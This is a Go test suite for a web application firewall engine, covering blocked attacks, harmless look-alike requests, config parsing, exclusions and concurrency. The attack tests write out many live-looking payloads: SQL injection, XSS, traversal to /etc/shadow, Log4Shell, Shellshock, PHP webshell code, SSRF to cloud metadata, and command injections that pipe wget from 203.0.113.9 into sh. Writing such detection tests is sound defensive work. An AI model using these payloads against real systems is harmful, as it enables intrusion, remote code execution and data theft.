package detect

import (
	"strings"
	"testing"
)

func get(uri string, headers ...Header) *Request {
	return &Request{Method: "GET", URI: uri, Headers: append([]Header{{"Host", "example.com"}, {"User-Agent", "Mozilla/5.0"}}, headers...)}
}

func post(uri, contentType, body string) *Request {
	r := get(uri, Header{"Content-Type", contentType})
	r.Method = "POST"
	r.Body = []byte(body)
	return r
}

func mustEngine(t testing.TB, config string) *Engine {
	t.Helper()
	cfg, err := ParseConfig([]byte(config))
	if err != nil {
		t.Fatal(err)
	}
	e, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func hasClass(res Result, c Class) bool {
	for _, m := range res.Matches {
		if m.Class == c {
			return true
		}
	}
	return false
}

// Attacks written for these tests, one or more per technique, not taken
// from any corpus.
func TestAttacksBlocked(t *testing.T) {
	tests := []struct {
		name  string
		req   *Request
		class Class
	}{
		{"sqli tautology", get("/items?id=7%27%20OR%20%27x%27%3D%27x"), SQLi},
		{"sqli union", get("/items?id=-1+UNION+ALL+SELECT+name,pass+FROM+users--"), SQLi},
		{"sqli comment split", get("/items?id=1/**/UnIoN/**/SeLeCt/**/1,2"), SQLi},
		{"sqli time oracle", post("/login", "application/x-www-form-urlencoded", "user=admin%27%20AND%20SLEEP(5)--&pw=x"), SQLi},
		{"sqli stacked", post("/api", "application/json", `{"id":"3; DROP TABLE orders"}`), SQLi},
		{"sqli cookie", get("/", Header{"Cookie", "uid=1' or '1'='1"}), SQLi},
		{"nosql operator", get("/users?name[$ne]=x"), SQLi},
		{"xss script", get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"), XSS},
		{"xss handler", post("/comment", "application/x-www-form-urlencoded", "body=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), XSS},
		{"xss entity url", get("/go?to=jav%26%23x61%3Bscript%3Aalert(1)"), XSS},
		{"xss in json", post("/api/profile", "application/json", `{"bio":"\u003csvg onload=confirm(1)\u003e"}`), XSS},
		{"traversal", get("/download?file=..%2f..%2f..%2fetc%2fshadow"), LFI},
		{"traversal double encoded", get("/static/%252e%252e/%252e%252e/config"), LFI},
		{"dotfile", get("/.git/config"), LFI},
		{"rfi ip", get("/page?tpl=http://203.0.113.9/shell.txt?"), RFI},
		{"rfi scheme", get("/view?src=gopher://internal:70/_x"), RFI},
		{"rce separator", get("/ping?host=127.0.0.1;cat%20/etc/hosts"), RCE},
		{"rce substitution", post("/run", "application/x-www-form-urlencoded", "q=$(wget+http://203.0.113.9/x+-O-|sh)"), RCE},
		{"rce quoted", get("/q?x=1|w'h'o'a'm'i"), RCE},
		{"rce windows", get("/q?x=a%26powershell+-enc+ZQBjAGgAbwAgAGgAaQAgAHQAaABlAHIAZQA="), RCE},
		{"shellshock", get("/cgi-bin/x", Header{"Referer", "() { :; }; /bin/id"}), RCE},
		{"command with options", get("/", Header{"User-Agent", "nohup wget -q -O- http://203.0.113.9/a"}), RCE},
		// The only value the cmd view is asked for: the rule must read
		// this value's view, not what an earlier value left.
		{"command with options alone", get("/files?q=ls%20-la%20/tmp"), RCE},
		{"command chain", post("/run", "application/x-www-form-urlencoded", "code=strace+ifconfig"), RCE},
		{"php tag", post("/upload", "application/x-www-form-urlencoded", "c=%3C%3Fphp+system($_GET[1]);"), PHP},
		{"php wrapper", get("/index.php?page=php://filter/convert.base64-encode/resource=index"), PHP},
		{"php upload", post("/upload", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"avatar.phtml\"\r\nContent-Type: image/png\r\n\r\nGIF89a\r\n--XX--\r\n"), PHP},
		{"php serialized", post("/cart", "application/x-www-form-urlencoded", `c=O:8:"Exploit":1:{s:3:"cmd";s:2:"id";}`), PHP},
		{"log4shell nested", get("/", Header{"X-Api-Version", "${${lower:j}${::-n}di:ldap://203.0.113.9/a}"}), Java},
		{"java class", post("/rpc", "application/xml", `<map><entry><string>java.lang.ProcessBuilder</string></entry></map>`), Java},
		{"java base64", get("/q?state=UHJvY2Vzc0J1aWxkZXI"), Java},
		{"spring el", get("/q?x=%24%7BT(java.lang.Runtime).getRuntime().exec('id')%7D"), Java},
		{"session fixation", get("/login?JSESSIONID=0123456789ABCDEF", Header{"Referer", "https://evil.example/"}), Session},
		{"prototype pollution", post("/api", "application/json", `{"__proto__":{"admin":true}}`), Generic},
		{"ssrf metadata", get("/fetch?url=http://169.254.169.254/latest/meta-data/"), Generic},
		{"template injection", get("/hello?name={{config.__class__.__init__.__globals__}}"), Generic},
		{"scanner", get("/", Header{"User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)"}), Scanner},
		{"bad method", &Request{Method: "TRACK", URI: "/"}, Protocol},
		{"smuggling", &Request{Method: "POST", URI: "/", Headers: []Header{{"Content-Length", "4"}, {"Transfer-Encoding", "chunked"}}, Body: []byte("0\r\n\r\n")}, Protocol},
	}
	e := mustEngine(t, "")
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := e.Inspect(tt.req)
			if !res.Attack || !hasClass(res, tt.class) {
				t.Errorf("not blocked as %s: score %d, matches %s", tt.class, res.Score, res.Summary())
			}
		})
	}
}

// Honest requests that look like attacks to a careless rule.
func TestLookAlikesPass(t *testing.T) {
	tests := []struct {
		name string
		req  *Request
	}{
		{"apostrophes", get("/search?q=O%27Reilly+and+D%27Angelo%27s+%22best%22+books")},
		{"sql words", get("/search?q=select+a+plan+or+update+your+order+by+date")},
		{"union station", post("/api/search", "application/json", `{"text":"union station, from 9 to 5"}`)},
		{"copy and paste", get("/help?topic=copy+%26+paste")},
		{"semicolon prose", get("/q?t=it+works%3B+more+later")},
		{"windows path", get("/search?q=C%3A%5CUsers%5Cdocs")},
		{"comparison", post("/api/note", "application/json", `{"note":"x < y, 3 > 2, a=b"}`)},
		{"url in json", post("/api/profile", "application/json", `{"website":"https://example.net/~bob"}`)},
		{"emails", post("/signup", "application/x-www-form-urlencoded", "email=anne%40example.net&name=Anne-Marie")},
		{"cli clients", get("/api/v1/orders?limit=50", Header{"User-Agent", "curl/8.10.1"})},
		{"rest delete", &Request{Method: "DELETE", URI: "/api/v1/sessions/a6a3a450"}},
		{"rest patch", &Request{Method: "PATCH", URI: "/api/v1/profile", Headers: []Header{{"Content-Type", "application/json"}}, Body: []byte(`{"about":"java beans & ping pong"}`)}},
		{"bearer token", get("/api/me", Header{"Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.sig"})},
		{"session cookie", get("/", Header{"Cookie", "session=4f426dcbb394fb36bb2d420f0f88080b; theme=dark"})},
		{"well-known", get("/.well-known/openid-configuration")},
		{"hashtag", get("/search?q=%23hashtag")},
		{"time words", get("/search?q=onload+time+and+alert+settings")},
		{"language names", get("/search?q=python+tutorial+vs+ruby+on+rails")},
		{"tool names", post("/api/search", "application/json", `{"text":"curl examples for docker compose"}`)},
		{"prose with parentheses", post("/api/note", "application/json", `{"note":"copy (see the file (pdf) attached), mail (optional), sleep (8 hours), field (required)"}`)},
		{"numbers", get("/api/items?price=127.5&page=0&qty=127")},
		{"downloads", get("/downloads/release-2.4.1.tar.gz")},
		{"hyphenated words", get("/search?q=time+-lapse+and+set+-up+e-mail")},
		{"words with sess", get("/api/assessments?assessment_id=7&possession=ball")},
	}
	e := mustEngine(t, "")
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if res := e.Inspect(tt.req); res.Attack {
				t.Errorf("blocked: score %d, matches %s", res.Score, res.Summary())
			}
		})
	}
}

func TestParseConfig(t *testing.T) {
	tests := []struct {
		name    string
		config  string
		wantErr string
	}{
		{"empty", "", ""},
		{"braces", "{}", ""},
		{"full", `{"mode":"detect","paranoia":2,"threshold":10,"weights":{"scanner":0.5},"disabled_rules":["rce-shellshock","protocol"],"exclusions":[{"path":"/admin/","rules":["sqli"]},{"arg":"html"}],"allowed_methods":["GET","POST"],"max_body_bytes":1024,"block_status":406}`, ""},
		{"unknown field", `{"mdoe":"block"}`, "unknown field"},
		{"bad mode", `{"mode":"audit"}`, "mode"},
		{"bad paranoia", `{"paranoia":5}`, "paranoia"},
		{"bad class", `{"weights":{"sql":1}}`, "unknown class"},
		{"bad method", `{"allowed_methods":["get"]}`, "allowed_methods"},
		{"bad exclusion", `{"exclusions":[{"rules":["sqli"]}]}`, "exclusions"},
		{"bad status", `{"block_status":200}`, "block_status"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg, err := ParseConfig([]byte(tt.config))
			if err == nil {
				_, err = New(cfg)
			}
			switch {
			case tt.wantErr == "" && err != nil:
				t.Fatalf("unexpected error: %v", err)
			case tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)):
				t.Fatalf("error %v, want one mentioning %q", err, tt.wantErr)
			}
		})
	}
	cfg, _ := ParseConfig(nil)
	if cfg.Mode != ModeBlock || cfg.Paranoia != 1 || cfg.Threshold != 5 || cfg.MaxBodyBytes != DefaultMaxBodyBytes || cfg.BlockStatus != 403 || len(cfg.AllowedMethods) != 7 {
		t.Errorf("defaults: %+v", cfg)
	}
	if _, err := New(Config{DisabledRules: []string{"no-such-rule"}}); err == nil {
		t.Error("New accepted an unknown rule id")
	}
}

func TestExclusionsAndWeights(t *testing.T) {
	attack := func() *Request { return get("/admin/query?sql=1+UNION+SELECT+password+FROM+users") }
	tests := []struct {
		name   string
		config string
		req    *Request
		attack bool
	}{
		{"default blocks", "", attack(), true},
		{"path exclusion", `{"exclusions":[{"path":"/admin/"}]}`, attack(), false},
		{"path exclusion by class", `{"exclusions":[{"path":"/admin/","rules":["sqli"]}]}`, attack(), false},
		{"path exclusion other class", `{"exclusions":[{"path":"/admin/","rules":["xss"]}]}`, attack(), true},
		{"other path", `{"exclusions":[{"path":"/reports/"}]}`, attack(), true},
		{"arg exclusion", `{"exclusions":[{"arg":"sql"}]}`, attack(), false},
		{"arg exclusion on path", `{"exclusions":[{"arg":"sql","path":"/public/"}]}`, attack(), true},
		{"arg exclusion by rule", `{"exclusions":[{"arg":"sql","rules":["sqli-union-select","sqli-libinjection","sqli-select-expression","sqli-clause-chain"]}]}`, attack(), false},
		{"class weight zero", `{"weights":{"sqli":0}}`, attack(), false},
		{"disabled class", `{"disabled_rules":["sqli"]}`, attack(), false},
		{"threshold", `{"threshold":100}`, attack(), false},
		{"method allowed by config", `{"allowed_methods":["GET","PROPFIND"]}`, &Request{Method: "PROPFIND", URI: "/dav/"}, false},
		{"default methods refuse others", "", &Request{Method: "PROPFIND", URI: "/dav/"}, true},
		{"protocol class disabled", `{"disabled_rules":["protocol"]}`, &Request{Method: "PROPFIND", URI: "/dav/"}, false},
		{"protocol rule disabled", `{"disabled_rules":["protocol-method-not-allowed"]}`, &Request{Method: "PROPFIND", URI: "/dav/"}, false},
		{"protocol weight zero", `{"weights":{"protocol":0}}`, &Request{Method: "PROPFIND", URI: "/dav/"}, false},
		{"protocol excluded on a path", `{"exclusions":[{"path":"/dav/"}]}`, &Request{Method: "PROPFIND", URI: "/dav/"}, false},
		{"protocol excluded by name", `{"exclusions":[{"path":"/dav/","rules":["protocol-method-not-allowed"]}]}`, &Request{Method: "PROPFIND", URI: "/dav/"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := mustEngine(t, tt.config).Inspect(tt.req)
			if res.Attack != tt.attack {
				t.Errorf("attack = %v, want %v (score %d: %s)", res.Attack, tt.attack, res.Score, res.Summary())
			}
		})
	}
}

func TestParanoia(t *testing.T) {
	req := get("/api/users?email__iendswith=example.com")
	if res := mustEngine(t, "").Inspect(req); res.Attack {
		t.Errorf("paranoia 1 blocked an ORM lookup: %s", res.Summary())
	}
	if res := mustEngine(t, `{"paranoia":2}`).Inspect(req); !res.Attack {
		t.Errorf("paranoia 2 let an ORM lookup through: %s", res.Summary())
	}
}

func TestBody(t *testing.T) {
	e := mustEngine(t, `{"max_body_bytes":64}`)
	long := post("/f", "application/x-www-form-urlencoded", "a="+strings.Repeat("x", 100)+"&b=1+UNION+SELECT+1,2")
	res := e.Inspect(long)
	if !res.BodyTruncated || res.Attack {
		t.Errorf("over max_body_bytes: truncated=%v attack=%v, want the tail unread", res.BodyTruncated, res.Attack)
	}
	unread := get("/f")
	unread.BodyUnread = true
	if res := e.Inspect(unread); !res.BodySkipped {
		t.Error("BodyUnread not reported")
	}
	// Types: each parser finds a payload in its place.
	for _, r := range []*Request{
		post("/f", "", "q=1'+or+'1'%3D'1"),
		post("/f", "text/plain", "note=<script>alert(1)</script>"),
		post("/f", "application/vnd.api+json", `{"data":{"attributes":{"q":"<script>alert(1)</script>"}}}`),
		post("/f", "application/json", `not json <script>alert(1)</script>`),
		post("/f", "text/xml", `<?xml version="1.0"?><a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>`),
		post("/f", "application/xml", `<a><![CDATA[<script>alert(1)</script>]]></a>`),
		post("/f", `multipart/form-data; boundary="b"`, "--b\nContent-Disposition: form-data; name=\"x\"\n\n<script>alert(1)</script>\n--b--\n"),
		post("/f", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"j\"\r\nContent-Type: application/json\r\n\r\n{\"k\":\"<script>alert(1)</script>\"}\r\n--b--\r\n"),
	} {
		if res := mustEngine(t, "").Inspect(r); !res.Attack {
			t.Errorf("%s body %q not blocked", r.Headers[2].Value, r.Body)
		}
	}
}

func TestMatchReportsPlace(t *testing.T) {
	res := mustEngine(t, "").Inspect(get("/?name=x&q=%3Cscript%3Ealert(1)%3C/script%3E"))
	if !strings.Contains(res.Summary(), "@arg:q") {
		t.Errorf("summary %q does not name arg:q", res.Summary())
	}
	for _, m := range res.Matches {
		if strings.Contains(m.Where, "script") {
			t.Errorf("match %+v carries the payload", m)
		}
	}
}

// An Engine is read-only after New: one serves concurrent requests (run
// with -race).
func TestConcurrentInspect(t *testing.T) {
	e := mustEngine(t, "")
	reqs := []*Request{
		get("/items?id=1%27%20OR%20%271%27%3D%271"),
		post("/api", "application/json", `{"a":"b","c":["<script>alert(1)</script>"]}`),
		get("/search?q=cat+pictures"),
	}
	done := make(chan bool)
	for g := range 8 {
		go func() {
			for i := range 50 {
				r := reqs[(g+i)%len(reqs)]
				if got, want := e.Inspect(r).Attack, r.URI != "/search?q=cat+pictures"; got != want {
					t.Errorf("%s: attack %v, want %v", r.URI, got, want)
				}
			}
			done <- true
		}()
	}
	for range 8 {
		<-done
	}
}
